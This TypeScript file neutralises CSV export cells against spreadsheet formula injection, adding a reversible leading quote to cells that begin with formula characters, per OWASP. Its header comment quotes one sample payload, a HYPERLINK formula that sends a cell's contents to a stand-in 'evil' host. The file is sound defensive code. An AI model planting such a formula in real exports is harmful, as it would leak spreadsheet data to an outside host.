// Cells safe to open in a spreadsheet. A customer named `=HYPERLINK("http://evil/?"&A1)` must
// not become a live formula when the owner opens an export in Excel, LibreOffice or Google
// Sheets. As OWASP recommends (CSV Injection), a cell starting with =, +, -, @, a tab or a
// carriage return gets a leading single quote, which spreadsheets read as "this is text", and
// is written between double quotes. Every CSV export of Loyal (records from the CLI and the
// editor, the trend review's tables) writes its text cells through `spreadsheetSafeCell`, and
// the import reads a cell through `restoreCell`, so an export imports back unchanged.
//
// The rule is one-to-one: a cell that already starts with quotes followed by one of those
// characters gets one more quote, so `restoreCell` can always take exactly one off. Plain
// numbers (-12.50, a refund) are not formulas and stay as they are. The full-width forms of
// the four signs (U+FF1D, U+FF0B, U+FF0D, U+FF20) are treated the same, as some spreadsheets
// read them as the ASCII ones. A line feed first is treated like a carriage return: the
// import reads every CR as a line end (LF), and the quote must come off that cell too.

const FORMULA_START = /^'*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const NEUTRALISED = /^'+[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** The text of a cell a spreadsheet would run as a formula, with the quote that makes it text. */
export function neutraliseCell(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** A cell of a CSV that Loyal (or anyone following the same rule) neutralised, as it was. */
export function restoreCell(value: string): string {
  return NEUTRALISED.test(value) ? value.slice(1) : value;
}

/**
 * csv-stringify's `cast.string` for every export: the neutralised text, quoted when it had
 * to be neutralised (OWASP: "wrap each cell field in double quotes").
 */
export function spreadsheetSafeCell(value: string): string | { value: string; quoted: boolean } {
  const safe = neutraliseCell(value);
  return safe === value ? value : { value: safe, quoted: true };
}
